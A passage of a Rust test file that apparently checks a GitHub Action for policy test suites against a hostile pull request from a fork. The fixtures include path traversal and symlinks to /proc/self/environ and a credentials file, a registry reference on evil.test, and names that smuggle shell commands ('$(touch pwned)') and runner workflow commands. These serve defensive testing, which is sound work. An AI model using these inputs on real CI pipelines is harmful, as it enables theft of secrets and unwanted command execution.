        "uri: yes.wasm, metadata: ../metadata.yml, usage: away/config.json",
        "uri: yes.wasm, settings: away/config.json",
        "uri: yes.wasm, signedBy: away/config.json",
        "manifest: away/config.json",
    ] {
        tricks.push(with_link(trick(policy, "", ""), "away", "OUT"));
    }
    for case in [
        "object: away/config.json",
        "object: ../../../../../../proc/self/environ",
        "objects: 'away/*.json'",
        "objects: '**/*.json'",
        "request: away/config.json",
        "raw: away/config.json",
        "replay: away/config.json",
        "cluster: [away/config.json]",
        "cluster: ['away/*.json']",
        "settings: away/config.json",
        "expect: { response: away/config.json }",
    ] {
        tricks.push(with_link(trick(YES, case, ""), "away", "OUT"));
    }
    for (link, target) in [
        ("out", "OUT"),
        ("out/report.xml", "OUT/config.json"),
        ("out/report.xml", "OUT/new"),
        ("suite.yml", "OUT/config.json"),
        ("suite.yml", "/proc/self/environ"),
        ("suite.yml", "/dev/zero"),
    ] {
        tricks.push(with_link(trick(YES, "", OUTSIDE), link, target));
    }
    let lock = trick("uri: 'registry://evil.test/p:v1'", "", OUTSIDE);
    tricks.push(with_link(lock, "suite.lock", "OUT/config.json"));
    // Green, and no command of the runner.
    for name in
        ["::error::pwned", "##[error]pwned", "x\\n::add-mask::a", "$(touch pwned)", "`touch pwned`", "'; touch pwned #"]
    {
        let case = format!("name: {}", serde_json::Value::from(name.replace("\\n", "\n")));
        tricks.push(Trick { code: 0, ..trick(YES, &case, "") });
    }
    tricks
}

/// A repository of a stranger, through the whole action: nothing is read, written, sent or run.
#[test]
fn a_hostile_repository_gets_nothing() {
    if Act::new().is_none() {
        return;
    }
    let tricks = tricks();
    assert!(tricks.len() >= 30, "{}", tricks.len());
    // Most of the time of `act` is waiting.
    std::thread::scope(|scope| {
        for some in tricks.chunks(tricks.len().div_ceil(6)) {
            scope.spawn(|| try_all(some));
        }
    });
}

fn try_all(tricks: &[Trick]) {
    use std::os::unix::fs::symlink;

    let act = Act::new().unwrap();
    let outside = tempfile::tempdir().unwrap();
    let config = outside.path().join("config.json");
    std::fs::write(&config, r#"{"auths":{"ghcr.io":{"auth":"aG9zdC1zZWNyZXQ="}}}"#).unwrap();
    let workflow = workflow(
        "          working-directory: policies/foo\n          suite: suite.yml\n          allow-env: TAG\n          \
         reports: |\n            junit=out/report.xml",
    );
    let workflow = workflow.replace("    runs-on", "    env: { TAG: job-secret, OTHER: job-secret }\n    runs-on");
    let event = json!({
        "repository": { "full_name": "acme/p" },
        "pull_request": { "number": 7, "head": { "repo": { "full_name": "evil/p" } } },
    });
    for Trick { suite, link, says, code } in tricks {
        let repository = Repository::new().write("policies/foo/suite.yml", suite);
        let repository = repository.replying("policies/foo/yes", r#"{"valid":true,"accepted":true}"#);
        let repository = repository.write(".github/workflows/verify.yml", &workflow);
        let repository = planted_repository(repository, "policies/foo").write("policies/metadata.yml", "rules: []\n");
        if let Some((link, target)) = link {
            let path = repository.path("policies/foo").join(link);
            std::fs::create_dir_all(path.parent().unwrap()).unwrap();
            let _ = std::fs::remove_file(&path);
            symlink(target.replace("OUT", outside.path().to_str().unwrap()), path).unwrap();
        }
        let Log(finished) = act.run(&repository, "pull_request", &event);
        let finished = finished.named(&format!("{suite}{link:?}"));
        let mut finished = finished.never_says("root:x:").never_says("HOME=");
        for secret in ["job-secret", "secret-token", "aG9zdC1zZWNyZXQ"] {
            finished = finished.never_says(secret);
        }
        let text = finished.stdout.lines().filter_map(|line| line.split_once("] ")).map(|(_, line)| line);
        let text = text.map(|line| line.trim_start().trim_start_matches('|').trim()).collect::<Vec<_>>().join(" ");
        assert!(text.contains(says), "{says}\n{finished}");
        finished.exits_with(*code);
        let planted = repository.shell("find . -name 'pwned*'").run();
        assert_eq!(planted.stdout, "");
        let kept = std::fs::read_to_string(&config).unwrap();
        assert!(kept.contains("aG9zdC1zZWNyZXQ=") && std::fs::read_dir(outside.path()).unwrap().count() == 1);
    }
}
